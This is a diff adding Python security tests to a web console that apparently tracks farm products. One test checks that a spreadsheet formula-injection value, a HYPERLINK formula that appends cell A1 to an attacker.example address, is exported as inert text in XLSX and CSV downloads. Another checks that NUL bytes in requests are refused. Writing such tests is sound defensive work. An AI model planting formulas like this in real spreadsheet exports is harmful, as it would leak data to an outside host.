@@ -3,11 +3,14 @@ security tests are tests/web/test_web_security_*.py; docs/security.md describes 
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date, timedelta
 from pathlib import Path
 
 import pytest
 import test_web_console_kit as console_kit
+from openpyxl import load_workbook
 from sqlalchemy import text
 from sqlalchemy.orm import Session
 from test_web_console_kit import Console, seeded_app, signed_in
@@ -142,5 +145,55 @@ def test_a_console_path_number_no_row_can_have_is_not_found(
             assert packer.post(f"/console/packing/ranges/{number}/void", {"reason": "x"}).status_code == 404
             assert operator.get(f"/console/operator/complaints/{number}").status_code == 404
             assert operator.post(f"/console/operator/users/{number}/unlock").status_code == 404
+    finally:
+        app.extensions["farmtrace.engine"].dispose()
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
+
+
+def test_a_typed_name_is_text_in_the_operators_spreadsheet_not_a_formula(
+    database_factory: object, tmp_path: Path, cheap_scrypt: None
+) -> None:
+    # A product name starting with "=" became a live formula in the XLSX and the CSV.
+    app = seeded_app(database_factory, tmp_path)
+    try:
+        operator = signed_in(app, "op-admin")
+        product = {
+            "id": "formula-product",
+            "owner": "coop-changbu",
+            "name_zh": FORMULA,
+            "category": "fruit",
+            "unit": "kg",
+        }
+        assert operator.post("/console/operator/products", product).status_code == 303
+        query = {"period": "month", "date": "2026-09", "scope": "product"}
+        workbook = operator.get("/console/stats/download", query_string={**query, "format": "xlsx"})
+        assert workbook.status_code == 200
+        sheet = load_workbook(io.BytesIO(workbook.data))["汇总"]
+        cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
+        assert cells and all(c.data_type == "s" for c in cells)
+        table = operator.get("/console/stats/download", query_string={**query, "format": "csv"})
+        rows = list(csv.reader(io.StringIO(table.data.decode("utf-8-sig"))))
+        assert [v for row in rows for v in row if FORMULA in v] == ["'" + FORMULA]
+    finally:
+        app.extensions["farmtrace.engine"].dispose()
+
+
+def test_a_nul_character_in_a_pages_address_or_form_is_refused_before_the_database(
+    database_factory: object, tmp_path: Path, cheap_scrypt: None
+) -> None:
+    # On PostgreSQL, GET /console/printing/?batch=a%00b was a 500: it refuses NUL in any text.
+    app = seeded_app(database_factory, tmp_path)
+    try:
+        packer, lab = signed_in(app, "packer-user"), signed_in(app, "lab-user")
+        assert packer.get("/console/printing/", query_string={"batch": "a\x00b"}).status_code == 400
+        assert lab.get("/console/lab/find", query_string={"code": "B\x00"}).status_code == 400
+        assert app.test_client().get("/batch/B0000000000A%00").status_code == 400
+        refused = packer.post(
+            "/console/packing/batches/B0000000000AB/void-code", {"code": "x\x00", "reason": "r"}
+        )
+        assert refused.status_code == 400 and "NUL" in refused.text
+        assert app.test_client().get("/api/v1/orgs?kind=lab%00").json["errors"][0]["field"] == "kind"
     finally:
         app.extensions["farmtrace.engine"].dispose()
